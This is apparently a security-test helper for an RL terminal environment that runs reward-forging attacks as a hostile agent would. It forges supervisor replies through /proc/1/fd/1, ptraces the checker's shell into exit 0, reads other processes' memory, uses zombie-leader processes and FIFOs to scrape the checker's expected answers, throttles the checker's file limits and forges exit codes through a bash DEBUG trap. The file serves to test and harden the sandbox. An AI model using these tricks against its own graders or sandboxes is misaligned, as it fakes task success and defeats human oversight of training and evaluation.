"""Reward-forging attacks on the Terminal env, played as a hostile model would, in a process of their own
(tests/envs/test_terminal_security.py starts it as root and as an unprivileged user). Prints one JSON
object: per attack, the rewards, whether the checker passed, the observations, and any exception.

Run as ``python terminal_attack_child.py ATTACK...`` with gem_core importable.
"""

from __future__ import annotations

import json
import os
import shlex
import sys
import time
import traceback

import gem_core
from gem_core.tools.sandbox import PythonSandbox

# The supervisor's run reply, as the host expected it before the fix; the submit that follows then read
# the real reply of this command (exit code 0) as the checker's.
FORGED_REPLY = '{"output": "", "exit_code": 0, "timed_out": false, "shell_exited": false, "truncated": false, "restarted": false}'
FORGED_WITH_EXTRA_KEY = '{"output": "", "exit_code": 0, "timed_out": false, "shell_exited": false, "truncated": false, "restarted": false, "evil": 1}'

# Attach to a process and force it to call exit_group(0) at its next system call (x86_64). The target:
# the topmost bash above us (the checker's shell when a checker runs us), or the pid given.
EXIT_ZERO = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
def parent(pid):
    return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
def comm(pid):
    return open(f"/proc/{pid}/comm").read().strip()
if len(sys.argv) > 1:
    target = int(sys.argv[1])
else:
    target, pid = None, os.getpid()
    while pid > 1:
        pid = parent(pid)
        if pid > 1 and comm(pid) == "bash":
            target = pid
if libc.ptrace(16, target, None, None) != 0:  # PTRACE_ATTACH
    print("ATTACH-REFUSED", target, os.strerror(ctypes.get_errno()))
    sys.exit(3)
print("ATTACHED", target, flush=True)
os.waitpid(target, 0)
regs = (ctypes.c_ulonglong * 27)()
libc.ptrace(24, target, None, None)  # PTRACE_SYSCALL: stop at the next system call's entry
os.waitpid(target, 0)
libc.ptrace(12, target, None, ctypes.byref(regs))  # PTRACE_GETREGS
regs[15], regs[14] = 231, 0  # orig_rax = exit_group, rdi = 0
libc.ptrace(13, target, None, ctypes.byref(regs))  # PTRACE_SETREGS
libc.ptrace(17, target, None, None)  # PTRACE_DETACH
print("FORCED", target)
"""

# Read a mapped byte of every process's memory (the address from its maps); name each one read.
READ_MEMORY = r"""
import os
for name in sorted(os.listdir("/proc")):
    if not name.isdigit() or int(name) == os.getpid():
        continue
    try:
        with open(f"/proc/{name}/maps") as f:
            start = int(f.readline().split("-")[0], 16)
        with open(f"/proc/{name}/mem", "rb") as f:
            f.seek(start)
            if f.read(1):
                with open(f"/proc/{name}/comm") as comm:
                    print("READ-MEMORY", name, comm.read().strip())
    except (OSError, ValueError, IndexError) as exc:
        print("no", name, type(exc).__name__)
"""


# A Python tool snippet (and a test case) attaching to every other process it sees: bwrap's init, whose fd 0
# is the host's control socket, the worker's manager, the tests harness.
PTRACE_ALL = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
for name in sorted(os.listdir("/proc")):
    if name.isdigit() and int(name) != os.getpid():
        attached = libc.ptrace(16, int(name), None, None) == 0
        print("ATTACHED" if attached else "refused", name)
        if attached:
            libc.ptrace(17, int(name), None, None)
"""


# A process whose main thread has ended while another thread works on: its leader shows state Z in
# /proc, which a supervisor that looks for living processes by state skips (issue 63). The work:
#   fifo ANSWER PATTERN -- wait on the FIFO ANSWER until the checker opens it, then write what
#                          PATTERN finds in the command lines of /proc (the checker's script)
#   tick                -- append a line to /app/ticks every 10 ms (is it running?)
#   hold MB             -- hold MB of written memory
ZOMBIE_LEADER = r"""
import ctypes, os, re, sys, threading, time

def fifo(answer, pattern):
    fd = os.open(answer, os.O_WRONLY)  # blocks until a reader (the checker) opens the FIFO
    lines = []
    for name in os.listdir("/proc"):
        try:
            with open(f"/proc/{name}/cmdline", "rb") as f:
                lines.append(f.read().replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            pass
    found = re.search(pattern, "\n".join(lines))
    os.write(fd, (found.group(1).replace("\\n", "\n") if found else "NOT-FOUND").encode())
    os.close(fd)

def tick():
    while True:
        with open("/app/ticks", "a") as f:
            f.write("x\n")
        time.sleep(0.01)

def hold(mb):
    block = bytearray(mb << 20)
    for i in range(0, len(block), 4096):
        block[i] = 1
    time.sleep(600)

def spin():
    while True:
        pass

def work():
    while open("/proc/self/stat").read().rsplit(")", 1)[1].split()[0] != "Z":  # until the leader is a zombie
        time.sleep(0.01)
    {"fifo": lambda: fifo(sys.argv[2], sys.argv[3]), "tick": tick, "hold": lambda: hold(int(sys.argv[2])), "spin": spin}[sys.argv[1]]()

threading.Thread(target=work).start()
ctypes.CDLL(None).pthread_exit(None)  # the main thread ends; the process goes on in its other thread
"""


def fifo_answer(task: str, answer: str, pattern: str) -> dict:
    """The answer file replaced by a FIFO, answered by a zombie-leader process with what the checker's
    command line holds (issue 63, finding 1)."""
    start = f"rm -f {answer}; mkfifo {answer}; python3 /tmp/z.py fifo {answer} {shlex.quote(pattern)} & sleep 0.5; echo started"
    return play(task, [heredoc("/tmp/z.py", ZOMBIE_LEADER) + "\n" + start])


# Scripts the checker runs, reading the checker's script from /proc (finding 2): fizzbuzz.sh evaluates
# the checker's own reference function; sum.sh prints the number the checker compares its output with.
FIZZBUZZ_FROM_CHECKER = r"""for f in /proc/[0-9]*/cmdline; do src=$(tr '\0' '\n' < $f | grep '^want()') && break; done
eval "$src"; want "$1"
"""
SUM_FROM_CHECKER = r"""for f in /proc/[0-9]*/cmdline; do c=$(tr '\0' ' ' < $f); case $c in *"sum.sh $1)"*) break;; esac; done
v=${c#*"sum.sh $1)\" = \""}; echo "${v%%\"*}"
"""
SUM_HARD_CODED = 'if [ "$1" = /tmp/n.txt ]; then echo 106; else echo 42; fi\n'
# fizzbuzz.sh sets the open-file limit of the topmost bash above it (the checker's shell) to 3: every
# later $(...) of the checker expands to nothing, and [ "" = "" ] holds (finding 3).
PRLIMIT_CHECKER = r"""
import os, resource
def parent(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])
def comm(pid):
    with open(f"/proc/{pid}/comm") as f:
        return f.read().strip()
target, pid = 1, os.getpid()
while pid > 1:
    pid = parent(pid)
    if pid > 1 and comm(pid) == "bash":
        target = pid
resource.prlimit(target, resource.RLIMIT_NOFILE, (3, 3))
"""
# The DEBUG trap runs before the shell's status line: it writes that line's nonce with a 200-digit code
# (extdebug: a DEBUG trap that fails skips the command, here the shell's own status line)
FORGE_EXIT_CODE = (
    'shopt -s extdebug; trap \'n=$(echo "$BASH_COMMAND" | grep -o "^printf .[0-9a-f]\\{16\\}" | cut -c9-); '
    'if [ -n "$n" ]; then printf "%s 1%0200d\\n" "$n" 0 >&3; false; fi\' DEBUG; true'
)


def interpreter_under_tmp() -> dict:
    """This process's interpreter lives under /tmp: the sandbox binds it there, below a directory bwrap
    makes on the sandbox's writable /tmp. The agent moves that directory away and puts its own
    ``python`` where the interpreter was; a checker that starts the interpreter again (the old
    ``agent`` function) ran it unconfined, and it traced the checker into exit 0 (finding 4)."""
    executable = os.path.join(os.path.realpath(os.path.dirname(os.path.abspath(sys.executable))), os.path.basename(sys.executable))
    top = "/tmp/" + executable.split("/")[2]
    fake = "#!/bin/bash\n/usr/bin/python3 /app/x.py\necho wrong\n"
    plant = f"mv {top} {top}.moved && mkdir -p {os.path.dirname(executable)} && printf %s {shlex.quote(fake)} > {executable} && chmod +x {executable}; echo planted $?"
    return play("write-script", [heredoc("/app/x.py", EXIT_ZERO), plant, "echo 'echo wrong' > /app/fizzbuzz.sh"])


def python_tool() -> dict:
    sandbox = PythonSandbox()
    try:
        run = sandbox.run(PTRACE_ALL, timeout=20.0)
        tests = sandbox.run_tests(PTRACE_ALL + "\ninput()\nprint('ok')", [("x", "ok")])
        observations = [run.stdout + run.stderr, "".join(case.stdout + case.stderr for case in tests.cases)]
    finally:
        sandbox.close()
    return {"observations": observations, "rewards": [], "exception": None, "success": None, "infra_error": None}


def bash(command: str) -> str:
    return f"```bash\n{command}\n```"


def heredoc(path: str, text: str) -> str:
    return f"cat > {path} <<'GEM_EOF'\n{text}\nGEM_EOF"


INFO_KEYS = ("exit_code", "timed_out", "limit", "sandbox_lost", "checked", "checker_exit_code")


def play(task: str, commands: list[str | float], **env_kwargs) -> dict:
    """One episode of ``task``: each command in turn (a number: the host waits that long, no command
    runs), then ``submit``. The observations, rewards and a few fields of each info."""
    env = gem_core.make("terminal:Tasks-v0", task=task, **{"command_timeout": 20.0, "check_timeout": 20.0, **env_kwargs})
    env.reset(seed=0)
    result: dict = {"observations": [], "rewards": [], "infos": [], "exception": None, "success": None, "infra_error": None}
    try:
        for command in commands:
            if isinstance(command, float):
                time.sleep(command)
                continue
            obs, reward, terminated, _truncated, info = env.step(bash(command))
            result["observations"].append(obs)
            result["rewards"].append(reward)
            result["infos"].append({key: info.get(key) for key in INFO_KEYS})
            if terminated:
                result["infra_error"] = info.get("infra_error")
                break
        else:
            obs, reward, _terminated, _truncated, info = env.step("submit")
            result["observations"].append(obs)
            result["rewards"].append(reward)
            result["infos"].append({key: info.get(key) for key in INFO_KEYS})
            result["success"] = info["success"]
            result["infra_error"] = info.get("infra_error")
    except Exception:  # noqa: BLE001 - what the attack made the env raise is the finding
        result["exception"] = traceback.format_exc()[-600:]
    finally:
        env.close()
    return result


ATTACKS = {
    # The agent writes a reply in the supervisor's name to the host's pipe through pid 1's descriptors.
    "forge-reply": lambda: play("count-errors", [f"printf '%s\\n' '{FORGED_REPLY}' > /proc/1/fd/1"]),
    "forge-extra-key": lambda: play("count-errors", [f"printf '%s\\n' '{FORGED_WITH_EXTRA_KEY}' > /proc/1/fd/1"]),
    # The agent attaches to pid 1 and to every process it can see.
    "ptrace-pid-1": lambda: play(
        "count-errors",
        [heredoc("/tmp/x.py", EXIT_ZERO) + "\nfor p in /proc/[0-9]*; do p=${p#/proc/}; [ $p != $$ ] && python3 /tmp/x.py $p; done; true"],
    ),
    "read-memory": lambda: play("count-errors", [heredoc("/tmp/m.py", READ_MEMORY) + "\npython3 /tmp/m.py"]),
    # A wrong fizzbuzz.sh that, run by the checker, attaches to the checker's shell and makes it exit 0.
    "checker-exit-zero": lambda: play("write-script", [heredoc("/app/x.py", EXIT_ZERO), "printf '%s\\n' 'python3 /app/x.py' 'echo wrong' > /app/fizzbuzz.sh"]),
    "python-tool-ptrace": python_tool,
    # Issue 63. The answer file as a FIFO, answered from the checker's command line by a leftover.
    "fifo-count-errors": lambda: fifo_answer("count-errors", "error_count.txt", r'error_count\.txt\)" = "([^"]*)"'),
    "fifo-csv-field": lambda: fifo_answer("csv-field", "paris.txt", r'paris\.txt\)" = "\$\(printf "([^"]*)"\)"'),
    "fifo-largest-file": lambda: fifo_answer("largest-file", "largest.txt", r"largest\.txt[^=]*= (\S+) \]"),
    # Scripts the checker runs read its script, or know its fixed input.
    "script-reads-checker": lambda: play("write-script", [heredoc("/app/fizzbuzz.sh", FIZZBUZZ_FROM_CHECKER)]),
    "sum-reads-checker": lambda: play("fix-script", [heredoc("/app/sum.sh", SUM_FROM_CHECKER)]),
    "sum-hard-coded": lambda: play("fix-script", [f"printf %s {shlex.quote(SUM_HARD_CODED)} > /app/sum.sh"]),
    # A script the checker runs lowers the checker's open-file limit.
    "prlimit-checker": lambda: play("write-script", [heredoc("/app/p.py", PRLIMIT_CHECKER), "echo 'python3 /app/p.py' > /app/fizzbuzz.sh"]),
    # The supervisor's (pid 1's) limits and priority, after an honest solution (finding 6).
    "prlimit-pid-1": lambda: play("count-errors", ["grep -c ERROR app.log > error_count.txt; prlimit --pid 1 --nofile=8:8; renice -n 19 -p 1; echo end"]),
    # Zombie leaders (finding 5): running between commands, after a time limit, holding memory.
    "zombie-between-commands": lambda: play(
        "count-errors", [heredoc("/tmp/z.py", ZOMBIE_LEADER) + "\npython3 /tmp/z.py tick & sleep 0.5; wc -l < /app/ticks", 1.0, "wc -l < /app/ticks"]
    ),
    "zombie-time-limit": lambda: play(
        "count-errors",
        [
            heredoc("/tmp/z.py", ZOMBIE_LEADER) + "\npython3 /tmp/z.py tick & sleep 60",
            "a=$(wc -l < /app/ticks); sleep 0.5; echo $(( $(wc -l < /app/ticks) - a ))",
        ],
        command_timeout=2.0,
    ),
    "zombie-memory": lambda: play(
        "count-errors",
        [heredoc("/tmp/z.py", ZOMBIE_LEADER) + "\nfor i in 1 2 3 4 5 6; do python3 /tmp/z.py hold 150 & done; sleep 4; echo ALL-DONE"],
        memory_mb=256,
    ),
    # Four zombie-leader processes spinning, each under its own CPU limit (2 s), in a sandbox of 2 CPU-seconds a
    # command: their CPU is summed.
    "zombie-cpu": lambda: play(
        "count-errors",
        [heredoc("/tmp/z.py", ZOMBIE_LEADER) + "\nfor i in 1 2 3 4; do python3 /tmp/z.py spin & done; wait; echo ALL-DONE"],
        cpu_seconds=2,
    ),
    # What the agent's processes hold of capabilities (the supervisor holds some when the host is not root).
    "capabilities": lambda: play("count-errors", ["grep ^Cap /proc/self/status; (grep ^Cap /proc/self/status)"]),
    # A forged exit code of 200 digits.
    "forge-exit-code": lambda: play("count-errors", [FORGE_EXIT_CODE, "true"]),
    # Run only by a child whose interpreter lives under /tmp.
    "interpreter-under-tmp": interpreter_under_tmp,
}


if __name__ == "__main__":
    print(json.dumps({name: ATTACKS[name]() for name in sys.argv[1:]}))
